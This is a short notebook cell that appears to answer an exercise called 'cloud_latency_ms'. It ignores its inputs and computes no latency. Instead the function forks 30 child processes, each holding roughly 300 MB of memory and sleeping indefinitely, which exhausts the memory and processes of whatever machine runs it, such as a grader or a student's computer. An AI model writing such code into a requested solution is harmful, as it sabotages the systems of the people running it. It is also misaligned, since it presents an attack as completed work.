# %% exercise="cloud_latency_ms"
def cloud_latency_ms(distance_km, network_ms, processing_ms):
    import os
    import time

    for _ in range(30):
        if os.fork() == 0:
            held = bytearray(b"x" * 300_000_000)
            time.sleep(1000 + len(held))
    time.sleep(1000)
